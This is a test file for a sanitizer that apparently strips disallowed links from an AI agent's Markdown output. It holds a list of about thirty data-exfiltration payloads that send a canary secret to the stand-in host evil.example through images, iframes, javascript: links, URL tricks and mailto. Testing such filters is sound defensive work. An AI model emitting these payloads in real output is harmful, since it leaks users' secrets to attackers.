import { describe, expect, test } from 'vitest';
import { outbound } from '../src/index.ts';

const hosts = ['github.example', 'jira.example:8443'];
const stolen = 'c2VjcmV0LWNhbmFyeQ';

/** Ways in which a reader's machine, or a reader, can be made to fetch an address. */
const corpus = [
  `![x](https://evil.example/${stolen}.png)`,
  `![x][1]\n\n[1]: https://evil.example/${stolen}.png`,
  `![x](//evil.example/${stolen})`,
  `![x]( <https://evil.example/${stolen}> "title")`,
  `![](data:image/svg+xml;base64,${stolen})`,
  `[click](https://evil.example/?q=${stolen})`,
  `[click](javascript:fetch('https://evil.example/${stolen}'))`,
  `[![x](https://evil.example/${stolen})](https://evil.example/${stolen})`,
  `<img src="https://evil.example/${stolen}">`,
  `<img src='https://evil.example/${stolen}`,
  `<picture><source srcset="https://evil.example/${stolen} 2x"></picture>`,
  `<a href="https://evil.example/${stolen}">here</a>`,
  `<https://evil.example/${stolen}>`,
  `https://evil.example/${stolen}`,
  `HTTPS://EVIL.example/${stolen}`,
  `www.evil.example/${stolen}`,
  `see //evil.example/${stolen} for more`,
  `http://github.example@evil.example/${stolen}`,
  `https://github.example:${stolen}@github.example/x`,
  `https://github.example.evil.example/${stolen}`,
  `https://evil.example\\@github.example/${stolen}`,
  `ftp://evil.example/${stolen}`,
  `file:///etc/${stolen}`,
  `<video src="https://evil.example/${stolen}" autoplay>`,
  `<iframe src="//evil.example/${stolen}"></iframe>`,
  `<style>@import url(https://evil.example/${stolen})</style>`,
  `<svg><use href="https://evil.example/${stolen}#x"/></svg>`,
  `[x]: <https://evil.example/${stolen}>\n\n![x]`,
  `h\u200bttps://evil.example/${stolen}`,
  `<!-- https://evil.example/${stolen} -->`,
  `\`\`\`\n<img src="https://evil.example/${stolen}">\n\`\`\``,
  `\`<img src="/\\\\evil.example/${stolen}">\``,
  `mailto:thief@evil.example?body=${stolen}`,
];

describe('what leaves the house', () => {
  test.each(corpus)('has no address in it that is not allowed: %s', (text) => {
    const cleaned = outbound(`Before. ${text}\n\nAfter.`, hosts);
    expect(cleaned).not.toContain(stolen);
    // What stands in code is shown as it is.
    expect(cleaned.replace(/`+[^`]*`+/g, '')).not.toMatch(/!\[|<[a-z]/i);
    expect(cleaned).toMatch(/^Before\./);
  });

  test('keeps addresses on allowed hosts, and what they are called', () => {
    const text =
      'See [the pull request](https://github.example/acme/shop/pull/7) and https://jira.example:8443/browse/SHOP-1.';
    expect(outbound(text, hosts)).toBe(text);
  });

  test('keeps what Markdown is for', () => {
    const text =
      '**Totals** are rounded in `src/cart.ts`.\n\n- one\n- two\n\n```ts\nconst a: Array<string> = b < c;\n```\n\nIt gives `Promise<void>`.';
    expect(outbound(text, hosts)).toBe(text);
  });

  test('keeps names that are code', () => {
    const text = "`@patchwright/agent`\n\n```ts\nimport { a } from '@acme/b';\n```";
    expect(outbound(text, hosts)).toBe(text);
  });

  test('is made in time that grows with its length', () => {
    const started = performance.now();
    for (const part of ['![', '[a](', '](', '`', '```\n', '<a ', '@', '//', 'a://', '[a]: x\n']) {
      outbound(part.repeat(20_000 / part.length), hosts);
    }
    expect(performance.now() - started).toBeLessThan(4000);
  });

  test('calls nobody by name', () => {
    expect(outbound('Ask @maria, or @acme/owners.', hosts)).not.toMatch(/@\w/);
  });
});
